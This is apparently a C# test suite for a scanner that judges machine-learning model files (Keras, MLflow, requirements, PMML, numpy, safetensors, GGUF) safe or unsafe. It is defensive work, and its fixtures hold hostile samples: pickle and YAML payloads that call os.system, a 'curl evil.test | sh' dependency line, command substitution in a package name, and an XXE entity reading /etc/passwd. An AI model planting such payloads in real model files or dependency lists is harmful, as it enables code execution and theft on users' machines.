using System.Text;
using Slipway.Governance;
using static Slipway.Tests.Governance.Scanners.Scanning;

namespace Slipway.Tests.Governance.Scanners;

public sealed class FileScannerTests
{
    private const string Dense =
        """{"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"units": 3}}]}}""";

    [Fact]
    public async Task A_model_without_files_and_a_file_of_no_known_kind_are_not_safe()
    {
        Assert.Equal(ScanVerdict.Unscannable, (await ScanAsync()).Verdict);
        Assert.Equal(ScanVerdict.Unscannable, await VerdictAsync("model.bin", [1, 2, 3, 250, 0, 7]));
    }

    [Theory]
    [InlineData("""{"class_name": "Lambda", "config": {"function": ["4wEA"]}}""")]
    [InlineData("""{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}""")]
    [InlineData("""{"class_name": "Model", "config": {"layers": [{"layer": {"class_name": "L\u0061mbda"}}]}}""")]
    [InlineData("""{"class_name": "function", "module": "subprocess", "config": "Popen"}""")]
    [InlineData("""{"class_name": "X", "module": "builtins", "config": {"fn_module": "os"}, "fn_module": "os"}""")]
    [InlineData(
        """{"class_name": "Dense", "config": {"kernel": {"class_name": "__lambda__", "config": {"code": "4w=="}}}}"""
    )]
    [InlineData("""{"class_name": "get_file", "module": "keras.utils", "config": {"url": "https://x.test/a"}}""")]
    [InlineData("""{"class_name": "Dense", "class_name": "Lambda"}""")]
    public async Task Keras_layers_that_carry_code_are_unsafe_in_each_of_its_forms(string config)
    {
        var bytes = Encoding.UTF8.GetBytes(config);
        Assert.Equal(ScanVerdict.Unsafe, await VerdictAsync("config.json", bytes));
        Assert.Equal(
            ScanVerdict.Unsafe,
            await VerdictAsync("m.keras", Zip(("config.json", bytes), ("metadata.json", "{}"u8.ToArray())))
        );
        Assert.Equal(ScanVerdict.Unsafe, await VerdictAsync("m.h5", Hdf(config)));
        Assert.Equal(ScanVerdict.Unsafe, await VerdictAsync("m.h5", Hdf(Dense, config)));
    }

    [Fact]
    public async Task Keras_layers_of_its_own_are_safe()
    {
        var bytes = Encoding.UTF8.GetBytes(Dense);
        Assert.Equal(
            ScanVerdict.Safe,
            await VerdictAsync("m.keras", Zip(("config.json", bytes), ("model.weights.h5", Hdf())))
        );
        Assert.Equal(ScanVerdict.Safe, await VerdictAsync("m.h5", Hdf(Dense)));
    }

    [Theory]
    [InlineData("\"class_name\": \"Dense\"")]
    [InlineData("{\"\\u0063lass_name\": \"Lambda\"}")]
    [InlineData("class_name {")]
    public async Task Layers_described_in_a_way_that_cannot_be_read_are_not_safe(string config) =>
        Assert.NotEqual(ScanVerdict.Safe, await VerdictAsync("m.h5", Hdf(config)));

    [Theory]
    [InlineData("MLmodel", "a: !!python/object/apply:os.system ['id']\n")]
    [InlineData("conda.yaml", "a: &a [x, x]\nb: [*a, *a, *a]\n")]
    [InlineData("conda.yaml", "dependencies:\n- pip:\n  - git+https://evil.test/x\n")]
    [InlineData("python_env.yaml", "dependencies: ['-r /etc/passwd']\n")]
    [InlineData("requirements.txt", "git+https://evil.test/x\n")]
    [InlineData("requirements.txt", "-r /etc/passwd\n")]
    [InlineData("requirements.txt", "--index-url https://evil.test\nnumpy\n")]
    [InlineData("requirements.txt", "numpy; os_name == 'x'\nscipy && curl evil.test | sh\n")]
    [InlineData("requirements.txt", "numpy$(id)\n")]
    [InlineData("a.pmml", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><PMML>&a;</PMML>")]
    [InlineData("site.pth", "import os; os.system('id')\n")]
    [InlineData("model.txt", "tree\nversion=v4\nnum_class=1\nmax_feature_idx=99999999999999\n")]
    public async Task Descriptions_that_would_make_a_reader_act_are_unsafe(string name, string text) =>
        Assert.Equal(ScanVerdict.Unsafe, await VerdictAsync(name, Encoding.UTF8.GetBytes(text)));

    [Theory]
    [InlineData(
        "MLmodel",
        "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: {conda: conda.yaml}\n"
    )]
    [InlineData(
        "conda.yaml",
        "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip<=23\n- pip:\n  - mlflow==3.1\n  - numpy>=1.0,<2\n"
    )]
    [InlineData(
        "requirements.txt",
        "# what it needs\nnumpy>=1.26,<3 # arrays\nscikit-learn==1.5; python_version >= '3.9'\nxgboost[gpu]~=2.0\n"
    )]
    [InlineData("a.pmml", "<PMML version='4.4'><Header/></PMML>")]
    [InlineData("model.txt", "tree\nversion=v4\nnum_class=1\nmax_feature_idx=3\n")]
    [InlineData("train.py", "import os\nprint('x')\n")]
    [InlineData("look.ipynb", "{\"cells\": []}")]
    public async Task Honest_descriptions_are_safe(string name, string text)
    {
        var report = await ScanAsync((name, Encoding.UTF8.GetBytes(text)));
        Assert.True(report.Verdict == ScanVerdict.Safe, string.Join("; ", report.Findings));
    }

    [Fact]
    public async Task A_model_that_brings_its_own_loader_is_not_safe() =>
        Assert.Equal(
            ScanVerdict.Unscannable,
            await VerdictAsync("MLmodel", "flavors:\n  python_function:\n    loader_module: mine\n"u8.ToArray())
        );

    [Fact]
    public async Task Arrays_of_objects_are_pickles()
    {
        Assert.Equal(ScanVerdict.Safe, await VerdictAsync("a.npy", Numpy("<f4", "2, 3", new byte[24])));
        Assert.Equal(ScanVerdict.Safe, await VerdictAsync("a.npy", Numpy("|O", "1,", Bytes("(lp0\nI1\na."))));
        Assert.Equal(
            ScanVerdict.Unsafe,
            await VerdictAsync("a.npy", Numpy("|O", "1,", Bytes("cposix\nsystem\n(S'id'\ntR.")))
        );
        Assert.Equal(ScanVerdict.Unsafe, await VerdictAsync("a.npy", Numpy("<f4", "99999999, 99999999", new byte[24])));
        Assert.Equal(
            ScanVerdict.Unsafe,
            await VerdictAsync("a.npz", Zip(("x.npy", Numpy("|O", "1,", Bytes("cos\nsystem\n(S'id'\ntR.")))))
        );
    }

    [Theory]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 8, true)]
    [InlineData(
        """{"__metadata__":{"format":"pt"},"b":{"dtype":"U8","shape":[4],"data_offsets":[4,8]},"a":{"dtype":"F32","shape":[],"data_offsets":[0,4]}}""",
        8,
        true
    )]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 9, false)]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,9]}}""", 9, false)]
    [InlineData(
        """{"a":{"dtype":"F32","shape":[9223372036854775807,9223372036854775807],"data_offsets":[0,8]}}""",
        8,
        false
    )]
    [InlineData(
        """{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}""",
        6,
        false
    )]
    [InlineData("""{"a":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}""", 8, false)]
    [InlineData(
        """{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}""",
        8,
        false
    )]
    [InlineData("""{"__metadata__":{"a":{"b":1}}}""", 0, false)]
    public async Task The_header_of_tensors_has_to_fit_the_file(string header, int bytes, bool isSafe)
    {
        var text = Encoding.UTF8.GetBytes(header);
        var file = (byte[])[.. BitConverter.GetBytes((ulong)text.Length), .. text, .. new byte[bytes]];
        Assert.Equal(isSafe ? ScanVerdict.Safe : ScanVerdict.Unsafe, await VerdictAsync("m.safetensors", file));
    }

    [Theory]
    [InlineData(1L << 62)]
    [InlineData(100_000_001)]
    [InlineData(5000)]
    public async Task A_header_longer_than_the_file_is_refused(long length) =>
        Assert.NotEqual(
            ScanVerdict.Safe,
            await VerdictAsync("m.safetensors", [.. BitConverter.GetBytes(length), .. "{\"a\":1}"u8])
        );

    [Fact]
    public async Task Counts_of_a_gguf_file_have_to_fit_the_file()
    {
        byte[] Gguf(ulong tensors, ulong entries, params byte[] rest) =>
            [.. "GGUF"u8, 3, 0, 0, 0, .. BitConverter.GetBytes(tensors), .. BitConverter.GetBytes(entries), .. rest];
        Assert.Equal(ScanVerdict.Safe, await VerdictAsync("m.gguf", Gguf(0, 0)));
        Assert.Equal(
            ScanVerdict.Safe,
            await VerdictAsync("m.gguf", Gguf(0, 1, [1, 0, 0, 0, 0, 0, 0, 0, (byte)'a', 0, 0, 0, 0, 7]))
        );
        Assert.NotEqual(ScanVerdict.Safe, await VerdictAsync("m.gguf", Gguf(ulong.MaxValue, 0)));
        Assert.NotEqual(ScanVerdict.Safe, await VerdictAsync("m.gguf", Gguf(0, 900_000)));
        Assert.NotEqual(
            ScanVerdict.Safe,
            await VerdictAsync("m.gguf", Gguf(0, 1, [255, 255, 255, 255, 255, 255, 255, 255]))
        );
    }

    [Fact]
    public async Task Programs_and_libraries_are_unsafe_under_any_name()
    {
        foreach (var head in (string[])["\x7F" + "ELF\x02\x01\x01", "\0asm\x01\0\0\0", "\xCA\xFE\xBA\xBE\0\0\0\x34"])
            Assert.Equal(ScanVerdict.Unsafe, await VerdictAsync("weights.bin", Bytes(head)));
    }

    [Fact]
    public async Task What_a_stranger_wrote_is_shown_without_its_control_characters()
    {
        var report = await ScanAsync(
            ("m.pkl", Bytes("\x80\x04\x8c\x04os\x1b[\x8c\x06system\x93.")),
            ("a.zip", Zip(("../\r\nx\u202E", [])))
        );
        Assert.All(
            report.Findings,
            f => Assert.DoesNotContain(f.Message + f.Path, c => char.IsControl(c) || c == '\u202E')
        );
    }

    private static byte[] Hdf(params string[] texts) =>
        [
            0x89,
            .. "HDF\r\n\x1a\n"u8,
            .. new byte[500],
            .. texts.SelectMany(t => (byte[])[.. "model_config\0"u8, .. Encoding.UTF8.GetBytes(t), 0]),
            .. new byte[100],
        ];

    private static byte[] Numpy(string kind, string shape, byte[] content)
    {
        var header = $"{{'descr': '{kind}', 'fortran_order': False, 'shape': ({shape}), }}\n";
        return [0x93, .. "NUMPY"u8, 1, 0, (byte)header.Length, 0, .. Encoding.ASCII.GetBytes(header), .. content];
    }
}
